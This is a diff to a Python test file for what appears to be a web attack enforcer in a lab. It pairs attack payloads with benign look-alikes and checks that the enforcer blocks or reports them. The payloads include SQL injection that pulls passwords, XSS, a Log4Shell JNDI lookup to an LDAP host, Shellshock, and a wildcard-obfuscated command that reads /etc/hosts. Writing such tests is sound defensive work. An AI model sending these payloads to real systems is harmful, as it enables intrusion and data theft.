@@ -1,10 +1,10 @@
-"""Command injection, LDAP injection, SQLi and XSS in a multipart form, and Log4Shell in a header, from
-a real client (curl) through the real enforcer to a real web app (`lab.vulnapp`) in the lab: in Protect
-the attack's
-connection is reset before any answer and a `threat` event says why, its benign twin (the same
-parameter, look-alike text) is answered 200 before and after; in Monitor the same attacks are answered
-and reported. The multipart forms carry an 8 KiB upload of an HTML page full of script before the
-field (`curl -F`): the field arrives in a later body part, and the page is no attack."""
+"""Command injection (in a query, a form, and Shellshock in a header), LDAP injection, SQLi and XSS in a
+multipart form, and Log4Shell in a header, from a real client (curl) through the real enforcer to a real
+web app (`lab.vulnapp`) in the lab: in Protect the attack's connection is reset before any answer and a
+`threat` event says why, its benign twin (the same parameter, look-alike text) is answered 200 before and
+after; in Monitor the same attacks are answered and reported. The multipart forms carry an 8 KiB upload
+of an HTML page full of script before the field (`curl -F`): the field arrives in a later body part, and
+the page is no attack."""
 
 from __future__ import annotations
 
@@ -42,6 +42,8 @@ CASES = [
     ("sql_injection", "multipart", "/profile", "name=x' UNION SELECT username, password FROM users-- -", "name=O'Brien & Sons; we select the best, union-made since 1999"),
     ("xss", "multipart", "/profile", 'bio="><img src=x onerror=alert(document.domain)>', "bio=I <3 maths: 2 > 1 & a=\"b\""),
     ("log4shell", "header", "/search?q=widget", "X-Api-Version: ${${::-j}${lower:N}di:ldap://198.18.0.9:1389/a}", "X-Api-Version: ${project.version}"),
+    ("command_injection", "header", "/cgi-bin/status", "User-Agent: () { :;}; echo vulnerable", "User-Agent: Mozilla/5.0 (X11; Linux x86_64) Firefox/125.0 { beta }"),
+    ("command_injection", "query", "/run", "cmd=/???/?at /???/hos?s", "cmd=/var/log/app-*.log"),
 ]  # fmt: skip
 PAGE = "<p><script>document.title = 'shop'</script><img src=x onerror=retry()></p>\n" * 110  # ~8 KiB
 
